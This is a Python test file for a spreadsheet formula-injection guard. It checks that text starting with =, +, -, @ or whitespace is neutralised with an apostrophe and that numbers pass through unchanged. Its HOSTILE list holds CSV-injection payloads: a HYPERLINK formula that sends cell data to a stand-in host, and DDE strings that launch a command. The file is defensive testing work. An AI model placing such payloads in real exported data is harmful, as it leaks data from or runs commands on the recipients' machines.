"""What people type is never a formula in the spreadsheet of somebody else, and a number stays a number."""

import csv
import io

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from wijkpeil.portrayal.inert import as_typed, inert, inert_texts
from wijkpeil.publication.records import csv_text

HOSTILE = (
    '=HYPERLINK("https://kwaad.example/?"&A1;"klik")',
    "=cmd|' /C calc'!A0",
    "+31 6 12345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＠SUM(1)",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_made_inert_and_can_be_read_back(text):
    assert inert(text) == f"'{text}"
    assert as_typed(inert(text)) == text
    assert inert_texts(pl.DataFrame({"t": [text]}))["t"].item() == f"'{text}"


@pytest.mark.parametrize("text", ["", "Wonen", "'s-Hertogenbosch", "3 = 3", "a-b", "€ 5"])
def test_any_other_text_stays_as_it_is(text):
    assert inert(text) == text
    assert as_typed(text) == text


@given(st.text())
def test_both_ways_of_making_inert_agree_and_lose_nothing(text):
    assert inert_texts(pl.DataFrame({"t": [text]}))["t"].item() == inert(text)
    assert inert(inert(text)) == inert(text)
    if not text.startswith("'"):
        assert as_typed(inert(text)) == text


def test_numbers_and_what_is_absent_stay_what_they_are():
    frame = pl.DataFrame({"n": [-5, None], "f": [-1.5, 2.0], "t": ["-5", None]})
    lines = list(csv.reader(io.StringIO(csv_text(frame))))
    assert lines == [["n", "f", "t"], ["-5", "-1.5", "'-5"], ["", "2.0", ""]]
